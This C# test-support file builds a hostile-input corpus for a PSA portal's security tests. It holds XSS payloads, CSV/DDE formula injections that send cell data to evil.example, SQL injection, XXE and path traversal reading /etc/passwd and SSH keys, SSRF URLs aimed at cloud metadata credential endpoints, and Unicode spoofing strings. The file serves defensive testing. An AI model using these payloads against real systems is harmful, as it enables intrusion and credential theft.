using System.Globalization;
using System.Text;

namespace PsaPortal.Testing;

/// <summary>One hostile input: its category, a short name for messages, and the value itself.</summary>
public sealed record HostileInput(string Category, string Name, string Value)
{
    public override string ToString() => $"{Category}/{Name}";
}

/// <summary>
/// The hostile-input corpus of docs/security.md, built once and shared by the service-level suite
/// (PsaPortal.Web.IntegrationTests/Security) and the Chromium pass (PsaPortal.EndToEnd.Tests). Text inputs go into every
/// free-text field of every form; site URLs, file names and e-mail addresses into the fields that take them.
/// The ingest API's own 493 generated payloads live in Api/HostilePayloadTests and are counted, not repeated, here.
/// </summary>
public static class HostileInputs
{
    public const string Oversize = "oversize";
    public const string Control = "control";
    public const string Unicode = "unicode";
    public const string Markup = "markup";
    public const string CsvFormula = "csv-formula";
    public const string ConnectWiseConditions = "cw-conditions";
    public const string AutotaskFilter = "at-filter";
    public const string SqlAndTemplates = "sql-template";
    public const string SiteUrl = "ssrf-url";
    public const string FileName = "file-name";
    public const string Email = "email";
    public const string MalformedJson = "malformed-json";

    /// <summary>Every text input: oversize, control, unicode, markup, CSV formula, conditions, filter, SQL/template.</summary>
    public static IReadOnlyList<HostileInput> Text { get; } = BuildText();

    /// <summary>Site addresses a PSA link form must refuse while the built-in sandbox is off.</summary>
    public static IReadOnlyList<HostileInput> SiteUrls { get; } = BuildSiteUrls();

    /// <summary>Upload and export file names that try to climb out of a folder or hide their type.</summary>
    public static IReadOnlyList<HostileInput> FileNames { get; } = BuildFileNames();

    /// <summary>Addresses the Users page and setup must refuse.</summary>
    public static IReadOnlyList<HostileInput> Emails { get; } = BuildEmails();

    /// <summary>Request bodies that are not the JSON an endpoint expects.</summary>
    public static IReadOnlyList<HostileInput> MalformedJsonBodies { get; } = BuildMalformedJson();

    public static IReadOnlyList<HostileInput> All { get; } = [.. Text, .. SiteUrls, .. FileNames, .. Emails, .. MalformedJsonBodies];

    /// <summary>Text inputs of the given categories.</summary>
    public static IEnumerable<HostileInput> Of(params string[] categories) => All.Where(i => categories.Contains(i.Category));

    /// <summary>Characters no stored name may keep: controls, format characters (bidi overrides, zero-width), lone surrogates.</summary>
    public static bool HasInvisibleOrControl(string value)
    {
        for (var i = 0; i < value.Length; i++)
        {
            if (char.IsSurrogate(value[i]) && !(char.IsHighSurrogate(value[i]) && i + 1 < value.Length && char.IsLowSurrogate(value[i + 1])))
            {
                return true;
            }

            var category = CharUnicodeInfo.GetUnicodeCategory(value, i);
            if (category is UnicodeCategory.Control or UnicodeCategory.Format or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator)
            {
                return true;
            }

            if (char.IsHighSurrogate(value[i]))
            {
                i++;
            }
        }

        return false;
    }

    /// <summary>
    /// What UTF-8 (a JSON body, a CSV file) can carry of <paramref name="text"/>: a lone surrogate has no UTF-8 form
    /// and arrives as U+FFFD.
    /// </summary>
    public static string WithLoneSurrogatesReplaced(string text)
    {
        var result = new StringBuilder(text.Length);
        for (var i = 0; i < text.Length; i++)
        {
            if (char.IsHighSurrogate(text[i]) && i + 1 < text.Length && char.IsLowSurrogate(text[i + 1]))
            {
                result.Append(text[i]).Append(text[++i]);
            }
            else
            {
                result.Append(char.IsSurrogate(text[i]) ? '\uFFFD' : text[i]);
            }
        }

        return result.ToString();
    }

    private static List<HostileInput> BuildText()
    {
        var list = new List<HostileInput>();
        void Add(string category, string name, string value) => list.Add(new HostileInput(category, name, value));

        foreach (var length in new[] { 101, 201, 257, 301, 501, 1_001, 4_001, 10_001, 100_001, 1_000_001 })
        {
            Add(Oversize, $"a×{length}", new string('a', length));
        }

        Add(Oversize, "emoji×300", string.Concat(Enumerable.Repeat("😀", 300)));
        Add(Oversize, "combining×500", "a" + new string('\u0301', 500));
        Add(Oversize, "spaces×5000", "x" + new string(' ', 5_000) + "y");
        Add(Oversize, "words×2000", string.Join(' ', Enumerable.Repeat("word", 2_000)));

        for (var c = 0; c < 0x20; c++)
        {
            Add(Control, $"U+{c:X4}", $"Contoso{(char)c}Ltd");
        }

        Add(Control, "U+007F", "Contoso\u007FLtd");
        for (var c = 0x80; c <= 0x9F; c += 3)
        {
            Add(Control, $"U+{c:X4}", $"Contoso{(char)c}Ltd");
        }

        Add(Control, "NUL-only", "\0");
        Add(Control, "NUL-leading", "\0Contoso");
        Add(Control, "NUL-trailing", "Contoso\0");
        Add(Control, "CRLF-header", "Contoso\r\nX-Injected: yes");
        Add(Control, "log-forging", "Contoso\nInformation: Admin signed in");
        Add(Control, "ANSI-escape", "Contoso\u001b[31mred\u001b[0m");
        Add(Control, "backspaces", "Contoso\b\b\b\bEvil");
        Add(Control, "whitespace-only", " \t ");

        foreach (var (name, value) in new[]
                 {
                     ("RLO", "Contoso\u202Etxt.exe"), ("LRO", "Contoso\u202Dx"), ("RLE", "\u202BContoso"), ("LRE", "\u202AContoso"), ("PDF", "Contoso\u202C"),
                     ("RLI", "\u2067Contoso\u2069"), ("LRI", "\u2066Contoso\u2069"), ("FSI", "\u2068Contoso"), ("RLM", "Contoso\u200F"), ("LRM", "\u200EContoso"),
                     ("ZWSP", "Con\u200Btoso"), ("ZWNJ", "Con\u200Ctoso"), ("ZWJ", "Con\u200Dtoso"), ("WJ", "Con\u2060toso"), ("BOM", "\uFEFFContoso"),
                     ("soft-hyphen", "Con\u00ADtoso"), ("line-separator", "Contoso\u2028Ltd"), ("paragraph-separator", "Contoso\u2029Ltd"),
                     ("lone-high-surrogate", "Contoso\uD800"), ("lone-low-surrogate", "\uDC00Contoso"), ("private-use", "Contoso\uE000"),
                     ("tag-characters", "Contoso\U000E0041\U000E0042"), ("interlinear", "Con\uFFF9toso"), ("object-replacement", "Contoso\uFFFC"),
                     ("cyrillic-a", "Cont\u043Eso"), ("greek-omicron", "C\u03BFntoso"), ("fullwidth", "\uFF23\uFF4F\uFF4E\uFF54\uFF4F\uFF53\uFF4F"),
                     ("math-bold", "\U0001D402\U0001D428\U0001D427"), ("homoglyph-paypal", "p\u0430ypal"), ("turkish-i", "\u0130stanbul"),
                     ("hangul-filler", "\u3164"), ("braille-blank", "\u2800"), ("mongolian-vs", "Con\u180Etoso"), ("variation-selector", "Contoso\uFE0F"),
                 })
        {
            Add(Unicode, name, value);
        }

        foreach (var (name, value) in new[]
                 {
                     ("script", "<script>alert(1)</script>"), ("img-onerror", "<img src=x onerror=alert(1)>"), ("svg-onload", "\"><svg onload=alert(1)>"),
                     ("attr-break", "\" onmouseover=\"alert(1)"), ("single-attr-break", "' autofocus onfocus='alert(1)"), ("javascript-url", "javascript:alert(1)"),
                     ("data-url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), ("textarea-close", "</textarea><script>alert(1)</script>"),
                     ("title-close", "</title><script>alert(1)</script>"), ("style-close", "</style><script>alert(1)</script>"), ("iframe", "<iframe src=javascript:alert(1)>"),
                     ("entity-encoded", "&lt;script&gt;alert(1)&lt;/script&gt;"), ("numeric-entity", "&#60;script&#62;alert(1)&#60;/script&#62;"),
                     ("uppercase", "<SCRIPT>alert(1)</SCRIPT>"), ("nested", "<scr<script>ipt>alert(1)</script>"), ("comment", "<!--<script>alert(1)//-->"),
                     ("markdown-link", "[click](javascript:alert(1))"), ("blazor-razor", "@(System.Environment.Exit(0))"), ("mustache", "{{constructor.constructor('alert(1)')()}}"),
                     ("js-template", "${alert(1)}"), ("css-expression", "x:expression(alert(1))"), ("meta-refresh", "<meta http-equiv=refresh content=0;url=//evil.example>"),
                     ("form", "<form action=//evil.example><input name=x></form>"), ("base", "<base href=//evil.example/>"), ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
                 })
        {
            Add(Markup, name, value);
        }

        foreach (var (name, value) in new[]
                 {
                     ("cmd-calc", "=cmd|' /C calc'!A0"), ("plus", "+cmd|' /C calc'!A0"), ("minus", "-cmd|' /C calc'!A0"), ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
                     ("tab", "\t=1+1"), ("cr", "\r=1+1"), ("hyperlink", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"), ("sum", "=SUM(A1:A9)"),
                     ("plus-number", "+1"), ("minus-number", "-1"), ("webservice", "=WEBSERVICE(\"http://evil.example\")"), ("dde", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
                     ("importxml", "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")"), ("quote-prefixed", "'=1+1"), ("space-prefixed", " =1+1"),
                     ("fullwidth-equals", "\uFF1D1+1"), ("semicolon", "=1;=2"), ("embedded", "Contoso =1+1"), ("quotes-comma", "\"Contoso\",\"=1+1\""), ("newline-formula", "Contoso\n=1+1"),
                 })
        {
            Add(CsvFormula, name, value);
        }

        foreach (var (name, value) in new[]
                 {
                     ("or-1-1", "x\" or 1=1 or name=\"y"), ("quote-or-id", "\" or id > 0 or \""), ("paren-break", "\") or (id != null) or (name = \""), ("bracket-date", "x] or lastUpdated > [2000-01-01T00:00:00Z"),
                     ("like-star", "name like \"*\""), ("escaped-quote", "a\\\"b"), ("backslash-quote-or", "\\\" or 1=1 or \\\""), ("quadruple-quote", "\"\"\"\""),
                     ("brackets", "()[]{}"), ("and-not", "x\" and not (id = 0) and name != \""), ("in-list", "x\" in (1, 2, 3) or \""), ("trailing-backslash", "Contoso\\"),
                     ("wildcard", "*"), ("percent", "%"), ("child-conditions", "childConditions=id>0"),
                 })
        {
            Add(ConnectWiseConditions, name, value);
        }

        foreach (var (name, value) in new[]
                 {
                     ("exist-object", "{\"op\":\"exist\",\"field\":\"id\"}"), ("close-and-add", "\"},{\"op\":\"exist\",\"field\":\"id\"}]}"), ("op-override", "x\",\"op\":\"noteq"),
                     ("array", "[{\"op\":\"gt\",\"field\":\"id\",\"value\":0}]"), ("unicode-quote", "\\u0022 or 1=1"), ("escaped-brace", "\\\"}"), ("null-word", "null"),
                     ("true-word", "true"), ("zero", "0"), ("udf", "{\"op\":\"eq\",\"field\":\"x\",\"udf\":true,\"value\":\"y\"}"), ("deep", new string('[', 200) + new string(']', 200)),
                     ("proto", "{\"__proto__\":{\"admin\":true}}"), ("max-records", "\",\"MaxRecords\":500,\"x\":\""), ("include-fields", "\",\"IncludeFields\":[\"*\"],\"x\":\""),
                     ("search-param", "search={\"filter\":[{\"op\":\"exist\",\"field\":\"id\"}]}"),
                 })
        {
            Add(AutotaskFilter, name, value);
        }

        foreach (var (name, value) in new[]
                 {
                     ("sql-or", "' OR '1'='1"), ("sql-drop", "Robert'); DROP TABLE \"Tenants\";--"), ("sql-union", "x' UNION SELECT \"PasswordHash\" FROM \"AspNetUsers\"--"),
                     ("sql-comment", "admin'--"), ("sql-sleep", "1; SELECT pg_sleep(10);--"), ("sqlite-attach", "x'; ATTACH DATABASE '/tmp/x.db' AS x;--"),
                     ("like-wildcards", "%_%_%"), ("ef-format", "{0}{1}{2}"), ("format-string", "%s%s%s%n"), ("ldap", "*)(uid=*))(|(uid=*"),
                     ("path-in-text", "../../../../etc/passwd"), ("xml-entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
                     ("json-in-text", "{\"$type\":\"System.IO.FileInfo, System.IO\"}"), ("newline-json", "\",\"role\":\"Admin"), ("regex-dos", new string('a', 64) + "!"),
                 })
        {
            Add(SqlAndTemplates, name, value);
        }

        return list;
    }

    private static List<HostileInput> BuildSiteUrls()
    {
        var urls = new[]
        {
            "http://169.254.169.254/latest/meta-data/", "https://169.254.169.254/latest/meta-data/iam/", "https://169.254.170.2/v2/credentials",
            "https://localhost/", "https://LOCALHOST./", "https://sub.localhost/", "https://127.0.0.1/", "https://127.0.0.1:5432/", "https://127.1/",
            "https://127.000.000.001/", "https://0177.0.0.1/", "https://0x7f.0.0.1/", "https://0x7f000001/", "https://2130706433/", "https://017700000001/",
            "https://0.0.0.0/", "https://0/", "https://10.0.0.5/", "https://10.255.255.255/", "https://167772165/", "https://0xa000005/", "https://172.16.0.1/",
            "https://172.31.255.254/", "https://192.168.1.1/", "https://100.64.0.1/", "https://198.18.0.1/", "https://224.0.0.1/", "https://255.255.255.255/",
            "https://[::1]/", "https://[::]/", "https://[0:0:0:0:0:0:0:1]/", "https://[fe80::1]/", "https://[fd00:ec2::254]/", "https://[fc00::1]/",
            "https://[::ffff:127.0.0.1]/", "https://[::ffff:7f00:1]/", "https://[::ffff:169.254.169.254]/", "https://[::ffff:10.0.0.1]/", "https://[ff02::1]/",
            "https://metadata.google.internal/", "https://metadata/", "https://intranet/", "https://psa.corp/", "https://psa.local/", "https://printer.lan/",
            "https://router.home.arpa/", "https://x.intranet/", "https://user:pass@na.myconnectwise.net/", "https://na.myconnectwise.net@127.0.0.1/",
            "http://na.myconnectwise.net/", "ftp://na.myconnectwise.net/", "file:///etc/passwd", "file://localhost/etc/shadow", "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stats", "ldap://127.0.0.1/", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "//127.0.0.1/",
            "\\\\127.0.0.1\\share", "https://127.0.0.1%2F@na.myconnectwise.net/", "https://na.myconnectwise.net\u0000.127.0.0.1/", "https://\u2460\u24EA.0.0.1/",
            "https://10.0.0.1\u3002/", "https://" + new string('a', 400) + ".example", "", "   ", "<script>alert(1)</script>",
        };
        return [.. urls.Select((url, i) => new HostileInput(SiteUrl, $"url-{i:D2}", url))];
    }

    private static List<HostileInput> BuildFileNames()
    {
        var names = new[]
        {
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts", "....//....//etc/passwd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%c0%af..%c0%afetc", "tenants.csv\0.exe", "tenants.csv%00.exe", "tenants\u202Evsc.exe", "con.csv", "NUL",
            "tenants<script>alert(1)</script>.csv", "tenants\r\nContent-Type: text/html.csv", "\"; filename=evil.exe; x=\".csv", new string('a', 1_000) + ".csv",
            " .csv", ".", "..", "~/.ssh/id_rsa", "\\\\server\\share\\tenants.csv", "file:///etc/passwd", "tenants.csv/..", "tenants.csv:$DATA", "=cmd|' /C calc'!A0.csv",
        };
        return [.. names.Select((name, i) => new HostileInput(FileName, $"file-{i:D2}", name))];
    }

    private static List<HostileInput> BuildEmails()
    {
        var emails = new[]
        {
            "not-an-email", "@example.com", "user@", "user@@example.com", "user example@example.com", "<script>@example.com", "user@example.com\r\nBcc: x@evil.example",
            "user@example.com\0", "\"><img src=x onerror=alert(1)>@example.com", new string('a', 250) + "@example.com", "user@" + new string('a', 300) + ".com",
            "us\u202Eer@example.com", "us\u200Ber@example.com", "=cmd|' /C calc'!A0@example.com", "' OR 1=1 --@example.com", "user@[127.0.0.1]", "",
        };
        return [.. emails.Select((email, i) => new HostileInput(Email, $"email-{i:D2}", email))];
    }

    private static List<HostileInput> BuildMalformedJson()
    {
        var bodies = new[]
        {
            "", "{", "}", "[", "{\"items\":", "{\"items\":[}", "null", "true", "\"string\"", "42", "{\"items\":null}", "{\"items\":{}}", "{\"items\":[null]}",
            "{\"items\":[1,2,3]}", "{'items':[]}", "{\"items\":[],}", "{\"items\":[] /* comment */}", "\uFEFF\uFEFF{\"items\":[]}", "{\"items\":[]}garbage",
            "{\"items\":[{\"externalId\":\"T-9\",\"name\":\"A\",\"name\":\"B\"}]}", new string('[', 10_000) + new string(']', 10_000),
            "{\"items\":[{\"externalId\":\"T-9\",\"name\":\"\\ud800\"}]}", "{\"items\":[{\"externalId\":\"T-9\",\"name\":\"A\\u0000B\"}]}",
            "{\"items\":[{\"externalId\":1e999,\"name\":\"A\"}]}", "{\"items\":[{\"externalId\":\"T-9\",\"name\":\"A\",\"$type\":\"System.IO.FileInfo\"}]}",
        };
        return [.. bodies.Select((body, i) => new HostileInput(MalformedJson, $"json-{i:D2}", body))];
    }
}
